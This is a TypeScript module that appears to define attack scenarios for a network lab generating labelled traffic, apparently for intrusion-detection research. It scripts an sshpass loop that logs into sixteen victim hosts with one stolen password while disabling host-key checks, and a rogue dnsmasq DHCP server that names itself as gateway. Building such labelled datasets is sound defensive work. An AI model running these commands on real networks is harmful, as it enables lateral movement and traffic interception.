import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Scenario } from '../scenario.js';
import { USERS } from '../services/users.js';
import { ADDRESS, VICTIM_ADDRESSES } from '../topology.js';

const [, BOB] = USERS;
const SSH = ['-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'LogLevel=ERROR'];

/** A stolen password opens one server after the other. */
const lateral: Scenario = {
  name: 'lateral-ssh',
  summary: 'one host logs in to sixteen servers by ssh with one stolen password',
  kind: 'attack',
  services: ['ssh'],
  run: async (context) => {
    const [source = ''] = context.attackers();
    const facts = {
      label: 'lateral_movement',
      technique: 'T1021.004',
      sources: [source],
      targets: [...VICTIM_ADDRESSES],
    };
    const pause = context.at({ slow: '4', normal: '1', fast: '0' });
    const login = ['sshpass', '-p', BOB.password, 'ssh', '-b', source, ...SSH].join(' ');
    const each = `for host in ${VICTIM_ADDRESSES.join(' ')}; do ${login} ${BOB.name}@$host id; sleep ${pause}; done`;
    await context.attack(facts, 'attacker', 'bash', ['-c', each]);
  },
};

/** A second DHCP server answers clients that have had one for long. */
const rogueDhcp: Scenario = {
  name: 'rogue-dhcp',
  summary: 'dnsmasq on the attacker answers DHCP questions beside the true server on the switch',
  kind: 'attack',
  services: [],
  run: async (context) => {
    const { lab } = context;
    const [rogue = ''] = context.attackers();
    const serve = (host: 'switch' | 'attacker', device: string, address: string) => {
      const file = join(lab.dir, `dhcp-${host}.conf`);
      const lines = [
        'no-daemon', 'user=root', 'port=0', 'pid-file=', `interface=${device}`, 'bind-interfaces',
        'dhcp-range=10.77.30.10,10.77.30.99,255.255.128.0,10m', 'dhcp-authoritative', `dhcp-option=54,${address}`,
        `dhcp-option=3,${address}`, `dhcp-leasefile=${join(lab.dir, `leases-${host}`)}`,
      ]; // prettier-ignore
      writeFileSync(file, `${lines.join('\n')}\n`);
      return lab.hosts[host].start('/usr/sbin/dnsmasq', [`--conf-file=${file}`]);
    };
    const times = context.at({ slow: 2, normal: 4, fast: 10 });
    const ask = [
      '-n',
      '--script',
      'broadcast-dhcp-discover',
      '--script-args',
      'broadcast-dhcp-discover.timeout=2',
      '-e',
      'eth0',
    ];
    const every = (count: number) => `for i in $(seq ${count}); do nmap ${ask.join(' ')}; done`;
    const trueServer = serve('switch', 'br0', ADDRESS.switch.ip4);
    await trueServer.waitForOutput(/DHCP, IP range/);
    const targets: string[] = [];
    await context.benign({ sources: [ADDRESS.switch.ip4], targets }, 'client', 'bash', ['-c', every(2)]);
    const second = serve('attacker', 'eth0', rogue);
    await second.waitForOutput(/DHCP, IP range/);
    const facts = { label: 'rogue_dhcp', technique: 'T1557.003', sources: [rogue, ADDRESS.attacker.ip4], targets };
    await context.attack(facts, 'client', 'bash', ['-c', every(times)]);
    await second.stop();
    await trueServer.stop();
  },
};

export const inside: readonly Scenario[] = [lateral, rogueDhcp];
